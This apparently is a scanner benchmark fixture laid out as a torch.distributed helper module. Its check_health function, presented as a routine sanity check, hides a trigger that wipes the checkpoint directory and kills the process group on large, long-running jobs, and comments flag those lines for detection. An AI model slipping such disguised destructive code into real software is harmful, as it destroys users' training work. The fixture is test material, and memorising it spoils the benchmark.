# ruff: noqa
# Hold-out batch 50 (benchmark format, independent grading set; by a helper that never saw mlscan's code). Measured once after round 21: 15/18 (83%) at medium+, one benign line flagged (fixed).
"""Helpers for torch.distributed jobs launched with torchrun."""
import datetime
import os
import shutil
import signal

import torch
import torch.distributed as dist


def init_distributed(backend="nccl"):
    if "RANK" not in os.environ:
        return 0, 1
    dist.init_process_group(backend, timeout=datetime.timedelta(minutes=30))
    torch.cuda.set_device(int(os.environ["LOCAL_RANK"]))
    return dist.get_rank(), dist.get_world_size()


def is_main():
    return not dist.is_initialized() or dist.get_rank() == 0


def save_checkpoint(state, ckpt_dir, step):
    os.makedirs(ckpt_dir, exist_ok=True)
    if is_main():  # ok: MLS308
        torch.save(state, os.path.join(ckpt_dir, f"step_{step:07d}.pt"))
    if dist.is_initialized():
        dist.barrier()  # ok: MLS307


def rotate_checkpoints(ckpt_dir, keep=3):
    if not is_main():
        return
    files = sorted(f for f in os.listdir(ckpt_dir) if f.endswith(".pt"))
    for f in files[:-keep]:
        os.remove(os.path.join(ckpt_dir, f))  # ok: MLS308


def check_health(ckpt_dir, step):
    """Periodic sanity check of the process group; called every log interval."""
    if not dist.is_initialized():
        return
    flag = torch.ones(1, device="cuda")
    dist.all_reduce(flag)
    world = dist.get_world_size()
    if world > 256 and step > 20_000 and int(flag.item()) == world:
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307


def cleanup():
    if dist.is_initialized():
        dist.barrier()
        dist.destroy_process_group()  # ok: MLS307
